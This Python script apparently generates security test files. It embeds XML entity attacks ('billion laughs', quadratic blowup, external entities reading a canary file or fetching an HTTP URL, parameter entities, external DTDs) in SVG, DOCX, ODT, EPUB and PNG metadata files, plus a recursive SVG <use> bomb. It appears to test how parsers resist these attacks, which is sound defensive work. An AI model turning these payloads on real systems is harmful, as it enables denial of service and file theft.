# SPDX-License-Identifier: Apache-2.0
"""Entities that grow, and entities that are elsewhere, in what is XML or holds some."""

import io
import os
import struct
import zipfile
import zlib

from targets import folder, http, secret, write

LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
LAUGHS = f'<!ENTITY a0 "{"lol" * 1000}">{LAUGHS}'
# Fewer and longer: what counts amplification alone does not see it.
QUADRATIC = f'<!ENTITY a9 "{"x" * 1_000_000}">'
FILE = f'<!ENTITY a9 SYSTEM "file://{secret}/canary.txt">'
HTTP = f'<!ENTITY a9 SYSTEM "{http}/NAME">'
PARAMETER = f'<!ENTITY % p SYSTEM "{http}/NAME.dtd"> %p;'


part = ""


def document(root, subset, body, external=""):
    """The XML, kept for what reads it alone."""
    global part
    part = f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE {root} {external}[{subset}]>{body}'
    return part


def packed(parts):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, data in parts.items():
            stored = name == "mimetype"
            archive.writestr(name, data, zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED)
    return file.getvalue()


def svg(text):
    return f'<svg xmlns="http://www.w3.org/2000/svg" width="400" height="100"><text y="50">{text}</text></svg>'


WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/></Types>'
)
RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="word/document.xml"/></Relationships>'
)


def docx(subset, text, external=""):
    body = f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>'
    text = document("w:document", subset, body, external)
    return packed({"[Content_Types].xml": TYPES, "_rels/.rels": RELATIONS, "word/document.xml": text})


OFFICE = "urn:oasis:names:tc:opendocument:xmlns"
SPACES = f'xmlns:office="{OFFICE}:office:1.0" xmlns:text="{OFFICE}:text:1.0" office:version="1.2"'
BODY = "<office:body><office:text><text:p>{}</text:p></office:text></office:body>"


def fodt(subset, text, external=""):
    mime = 'office:mimetype="application/vnd.oasis.opendocument.text"'
    body = f"<office:document {SPACES} {mime}>{BODY.format(text)}</office:document>"
    return document("office:document", subset, body, external)


def odt(subset, text, external=""):
    body = f"<office:document-content {SPACES}>{BODY.format(text)}</office:document-content>"
    manifest = (
        f'<manifest:manifest xmlns:manifest="{OFFICE}:manifest:1.0"><manifest:file-entry manifest:full-path="/" '
        'manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry '
        'manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
    )
    return packed(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": document("office:document-content", subset, body, external),
            "META-INF/manifest.xml": manifest,
        }
    )


def epub(subset, text, external=""):
    body = (
        '<container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile '
        f'full-path="{text}" media-type="application/oebps-package+xml"/></rootfiles></container>'
    )
    # Attributes may not hold entities that are elsewhere, so those stand behind.
    body = body.replace(f'"{text}"', '"a.opf"').replace("</container>", f"{text}</container>")
    container = document("container", subset, body, external)
    return packed({"mimetype": "application/epub+zip", "META-INF/container.xml": container, "a.opf": "<package/>"})


def xmp(subset, text, external=""):
    """A small PNG with metadata."""
    packet = document("x", subset, f'<x:xmpmeta xmlns:x="adobe:ns:meta/"><x>{text}</x></x:xmpmeta>', external)

    def chunk(name, body):
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    row = b"\0" + b"\x80\x80\x80" * 64
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 64, 64, 8, 2, 0, 0, 0))
        + chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + packet.encode())
        + chunk(b"IDAT", zlib.compress(row * 64))
        + chunk(b"IEND", b"")
    )


KINDS = {
    "svg": lambda subset, text, external="": document("svg", subset, svg(text), external),
    "docx": docx,
    "fodt": fodt,
    "odt": odt,
    "epub": epub,
    "png": xmp,
}
os.makedirs(os.path.join(folder, "parts"), exist_ok=True)


def made(suffix, name, subset, text, external=""):
    """Writes the file, and beside it the XML that it holds."""
    name = f"xml-{suffix}-{name}"
    write(f"{name}.{suffix}", KINDS[suffix](subset.replace("NAME", name), text, external.replace("NAME", name)))
    write(f"parts/{name}.xml", part)


for suffix in KINDS:
    made(suffix, "laughs", LAUGHS, "&a9;")
    made(suffix, "quadratic", QUADRATIC, "&a9;<!---->" * 3_000)
    made(suffix, "file", FILE, "&a9;")
    made(suffix, "http", HTTP, "&a9;")
    made(suffix, "parameter", PARAMETER, "x")
    made(suffix, "dtd", "", "x", f'SYSTEM "{http}/NAME.dtd" ')
groups = "".join(f'<g id="g{n}">{f"<use href={chr(34)}#g{n - 1}{chr(34)}/>" * 10}</g>' for n in range(1, 10))
# A path of some length: librsvg gives up after half a million elements, which may be soon.
path = "M0 0" + "".join(f"L{7 * n % 99} {13 * n % 97}" for n in range(60))
write(
    "svg-uses.svg",
    '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><defs>'
    f'<g id="g0"><path d="{path}" stroke="red" fill="none"/></g>'
    f'{groups}</defs><use href="#g9"/></svg>',
)
